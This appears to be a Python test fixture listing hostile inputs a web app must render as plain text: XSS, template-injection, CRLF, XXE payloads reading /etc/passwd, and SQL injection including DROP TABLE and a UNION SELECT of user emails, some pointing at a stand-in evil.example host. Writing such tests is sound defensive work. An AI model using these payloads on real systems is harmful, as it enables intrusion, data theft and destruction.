"""Hostile texts: what people type who want a page of ours to run, send or name something of theirs."""

MARK = "zzqx"
"""Stands in every name, address and handler that a text tries to bring in, so that it can be recognised."""
STORED = (
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg/onload=alert('{MARK}')>",
    f"\"><script>alert('{MARK}')</script>",
    f"' onfocus='alert(1)' autofocus id='{MARK}",
    f'" onmouseover="alert(1)" name="{MARK}',
    f"</script><script>alert('{MARK}')</script>",
    f"</title><body onload=alert('{MARK}')>",
    f"</textarea><{MARK} onclick=alert(1)>",
    f"<!--<img src='--><img src=x onerror=alert({MARK})//'>",
    f"]]><script>alert('{MARK}')</script>",
    f"[klik](javascript:alert('{MARK}'))",
    f"[klik](JaVa&#x09;ScRiPt:alert('{MARK}'))",
    f"[klik](data:text/html;base64,{MARK}PHNjcmlwdD4=)",
    f"[klik](vbscript:{MARK})\n\n[ref]\n\n[ref]: javascript:{MARK}",
    f"![x](//evil.example/{MARK}.gif)",
    f'<https://example.org/?"onmouseover=alert({MARK})>',
    f'[x](https://example.org "t\\" onmouseover=\\"{MARK}")',
    f"<a href='javascript:{MARK}'>x</a><a href=' &#14; javascript:{MARK}'>y</a>",
    f"<iframe srcdoc='<script>{MARK}</script>' src=//evil.example></iframe>",
    f'<div id="{MARK}" name="{MARK}"><img name=getElementById><a id=status></a></div>',
    f"<form id=filter-form action=//evil.example/{MARK}><input name=q><button>x</button></form>",
    f'<p data-hx-get="/{MARK}"/hx-get="/{MARK}" data-hx-trigger="load" data-hx-swap-oob="true">x</p>',
    f"<style>@import '//evil.example/{MARK}';*{{display:none}}</style><link rel=stylesheet href=//evil.example/{MARK}>",
    f"<base href=//evil.example/{MARK}><meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')></table></mtext></math>",
    f"{{{{ 1337 * 1337 }}}}{{% if true %}}{MARK}{{% endif %}}${{1337*1337}}#{{1337*1337}}<%= 1337*1337 %>",
    f"regel\r\nBEGIN:VALARM\r\nACTION:{MARK}\u2028SUMMARY:{MARK}\x0bX-{MARK}:1\u2029ATTACH:x\x85END:VEVENT",
    f"`<script>{MARK}</script>`\n\n```html\n</code></pre><script>{MARK}</script>\n```",
    f"<xsl:script>{MARK}</xsl:script><?xml version='1.0'?><!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]>&{MARK};",
    f"\u202egpj.{MARK}\u200b\u2066\ufeff<\x00b\x1b[31m>\U0001f600",
)
"""One and thirty, of which each must stay what it is: text."""
COMPUTED = str(1337 * 1337)
"""What a page says that worked out the expression."""
REFLECTED = (
    f"<script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"' autofocus onfocus='alert(1)' id='{MARK}",
    f"</title></script><svg/onload=alert('{MARK}')>",
    f"javascript:alert('{MARK}')",
    f"//evil.example/{MARK}",
    "{{ 1337 * 1337 }}${1337*1337}",
    f"<p id={MARK} data-hx-get=/{MARK} data-hx-trigger=load>",
    f"x\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>{MARK}</script>",
)
INJECTED_SQL = (
    f"{MARK}' OR '1'='1",
    f"{MARK}') OR 1=1--",
    f'{MARK}" OR ""="',
    f"{MARK}'; DROP TABLE post; --",
    f"{MARK}' UNION SELECT email, 1, 1 FROM user --",  # noqa: S608  # it is meant to be one
    f"1 AND (SELECT count(*) FROM user) > 0 -- {MARK}",  # noqa: S608  # likewise
    f"{MARK}\\'; DELETE FROM content_version; --",  # noqa: S608  # likewise
    f"{MARK}%' AND randomblob(500000000) AND '%'='",
    f"{MARK}\uff07 OR 1=1 --",
)
